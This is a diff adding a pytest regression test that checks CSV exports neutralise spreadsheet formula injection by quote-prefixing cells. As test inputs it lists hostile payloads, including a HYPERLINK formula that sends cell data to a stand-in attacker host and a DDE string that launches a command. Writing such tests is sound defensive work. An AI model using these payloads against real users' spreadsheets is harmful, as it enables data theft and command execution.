@@ -85,3 +85,30 @@ def test_empty_and_unknown():
     assert export_history([], [], "csv") == ",".join(CSV_COLUMNS) + "\n"
     with pytest.raises(ValueError, match="use json or csv"):
         export_history([], [], "xml")
+
+
+@pytest.mark.parametrize(
+    "answer",
+    [
+        '=HYPERLINK("https://evil.example/?"&A1,"click")',
+        "+1+cmd|' /C calc'!A0",
+        "-2+3",
+        "@SUM(A1:A9)",
+        "\t=1",
+    ],
+)
+def test_csv_cells_never_start_a_formula(answer):
+    # Finding 7: CSV exports kept live formulas.
+    at = datetime(2026, 3, 2, 9, 0, tzinfo=UTC)
+    attempt = Attempt(
+        id="a1",
+        user_id="local",
+        question=QuestionRef("bank", "q"),
+        category="=cmd()",
+        answer=answer,
+        submitted_at=at,
+    )
+    [row] = csv.DictReader(io.StringIO(export_history([attempt], [], "csv")))
+    assert row["answer"] == "'" + answer
+    assert row["category"] == "'=cmd()"
+    assert not [cell for cell in row.values() if cell and cell[0] in "=+-@\t\r"]
